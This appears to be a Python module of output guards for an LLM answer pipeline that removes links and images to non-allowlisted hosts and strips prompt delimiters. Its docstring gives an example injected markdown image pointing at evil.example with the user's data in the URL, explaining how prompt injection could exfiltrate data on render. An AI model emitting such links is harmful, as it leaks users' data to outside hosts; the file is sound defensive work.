"""Output guards against exfiltration and prompt leaks.

``links``: markdown images and links, and bare URLs, to hosts outside ``guard_link_hosts`` are removed from
answers: an injected ``![x](https://evil.example/?q=<the user's data>)`` would otherwise make the client fetch
the URL (and send the data) the moment it renders the answer. A markdown link keeps its text, an image goes,
a bare URL becomes ``[link removed]``. Hosts match exactly or as a parent domain (``example.com`` allows
``docs.example.com``).

``delimiters``: the grounded prompt fences each source in ``<<<`` / ``>>>``; those never belong in an answer.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

from genloom.guard.base import Finding, Span, Where
from genloom.settings import Settings

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_REF = re.compile(r"^\s*\[[^\]\n]+\]:\s*(\S+).*$", re.MULTILINE)  # [id]: http://... reference definitions
_BARE = re.compile(
    r"\b(?:https?|ftp)://[^\s<>\"'`)\]]+|\bwww\.[a-z0-9-]+(?:\.[a-z0-9-]+)+[^\s<>\"'`)\]]*", re.I
)
_DELIMS = re.compile(r"<<<+|>>>+")


def host_of(url: str) -> str:
    u = url if "://" in url else f"http://{url}"
    try:
        return (urlsplit(u).hostname or "").lower().rstrip(".")
    except ValueError:
        return ""


class LinkGuard:
    name = "links"

    def __init__(self, settings: Settings) -> None:
        self.hosts = [h.lower().lstrip(".") for h in settings.names("guard_link_hosts")]

    def allowed(self, url: str) -> bool:
        if not re.match(r"^(?:[a-z][a-z0-9+.-]*:|www\.)", url, re.I):
            return True  # a relative link or an anchor: nowhere to send data
        host = host_of(url)
        return bool(host) and any(host == h or host.endswith("." + h) for h in self.hosts)

    def check(self, text: str, where: Where) -> Finding | None:
        spans: list[Span] = []
        taken: list[tuple[int, int]] = []
        for rx, kind in ((_IMAGE, "image"), (_LINK, "link")):
            for m in rx.finditer(text):
                if any(a <= m.start() < b for a, b in taken):
                    continue
                taken.append((m.start(), m.end()))
                if not self.allowed(m.group(2)):
                    keep = "" if kind == "image" else m.group(1)
                    spans.append(
                        Span(m.start(), m.end(), "exfiltration", f"{kind} to {host_of(m.group(2))}", keep)
                    )
        for m in _REF.finditer(text):
            if not self.allowed(m.group(1)):
                spans.append(Span(m.start(), m.end(), "exfiltration", f"link to {host_of(m.group(1))}", ""))
                taken.append((m.start(), m.end()))
        for m in _BARE.finditer(text):
            if any(a <= m.start() < b for a, b in taken) or self.allowed(m.group(0)):
                continue
            spans.append(
                Span(m.start(), m.end(), "exfiltration", f"URL to {host_of(m.group(0))}", "[link removed]")
            )
        if not spans:
            return None
        hosts = sorted({s.reason.split(" to ", 1)[1] for s in spans})
        return Finding(self.name, where, "redact", "exfiltration",
                       f"links to hosts not in guard_link_hosts: {', '.join(hosts)}", tuple(spans))  # fmt: skip


class DelimiterGuard:
    name = "delimiters"

    def __init__(self, settings: Settings) -> None:
        pass

    def check(self, text: str, where: Where) -> Finding | None:
        spans = tuple(
            Span(m.start(), m.end(), "delimiter", "a prompt delimiter", "") for m in _DELIMS.finditer(text)
        )
        if not spans:
            return None
        return Finding(self.name, where, "redact", "prompt_leak", "the prompt's source delimiters", spans)


__all__ = ["DelimiterGuard", "LinkGuard", "host_of"]
